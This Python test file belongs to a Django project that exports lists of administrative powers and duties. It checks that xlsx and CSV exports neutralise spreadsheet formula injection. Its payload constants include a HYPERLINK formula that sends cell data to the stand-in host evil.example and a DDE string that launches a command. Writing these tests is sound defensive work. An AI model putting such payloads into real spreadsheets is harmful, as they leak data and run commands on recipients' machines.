"""Finding 5 (issue 15): formula injection. An item named `=HYPERLINK(...)` must come out of every staff and
public spreadsheet export (xlsx and CSV) as plain text, never as a live formula — 8 formats in all."""
import csv
import io

from openpyxl import load_workbook

from bianzhi.lists.models import PowerItem, ResponsibilityItem
from bianzhi.portal.services import publish_units

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]


def _xlsx_cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [(ws.title, cell.coordinate, cell.value, cell.data_type)
            for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _check_xlsx(content: bytes, expect_payload=True):
    cells = _xlsx_cells(content)
    formulas = [c for c in cells if c[3] == "f"]
    assert not formulas, f"导出的表格含有公式单元格：{formulas[:3]}"
    texts = [c[2] for c in cells if isinstance(c[2], str)]
    assert not [t for t in texts if t and t[0] in "=+-@\t\r"], "导出的表格含有以公式字符开头的文本"
    if expect_payload:
        assert "'" + PAYLOAD in texts  # the name is still there, as text, for a person to read


def _check_csv(content: bytes):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"], "导出的 CSV 含有以公式字符开头的单元格"
    assert "'" + PAYLOAD in cells


def _poison(unit):
    item = PowerItem._base_manager.filter(unit=unit).order_by("id").first()
    PowerItem._base_manager.filter(pk=item.pk).update(name=PAYLOAD)
    resp = ResponsibilityItem._base_manager.filter(unit=unit).order_by("id").first()
    ResponsibilityItem._base_manager.filter(pk=resp.pk).update(name=PAYLOAD, content=OTHERS[0])
    return item


def _unit_with_lists():
    return PowerItem._base_manager.order_by("id").first().unit


def test_staff_exports_neutralise_formulas(client_for):
    unit = _unit_with_lists()
    _poison(unit)
    admin = client_for("admin")
    for kind in ("power", "duty"):
        xlsx = admin.get(f"/manage/lists/export/{kind}.xlsx?unit={unit.pk}")
        assert xlsx.status_code == 200
        _check_xlsx(b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content)
        got = admin.get(f"/manage/lists/export/{kind}.csv?unit={unit.pk}")
        assert got.status_code == 200
        _check_csv(b"".join(got.streaming_content) if got.streaming else got.content)


def test_public_exports_neutralise_formulas(client, users):
    unit = _unit_with_lists()
    _poison(unit)
    publish_units([unit], note="测试：公式注入", acting_user=users["admin"])
    for url in (f"/unit/{unit.pk}/data.xlsx", f"/region/{unit.region.code}/data.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        _check_xlsx(response.content)
    for url in (f"/unit/{unit.pk}/data.csv", f"/region/{unit.region.code}/data.csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        _check_csv(response.content)


def test_safe_cell_rules():
    from bianzhi.core.spreadsheet import safe_cell

    for text in [PAYLOAD, *OTHERS, "\r=1"]:
        assert safe_cell(text) == "'" + text
    for value in ["百色市教育局", "行政许可", 3, -5, None, "（=）"]:
        assert safe_cell(value) == value
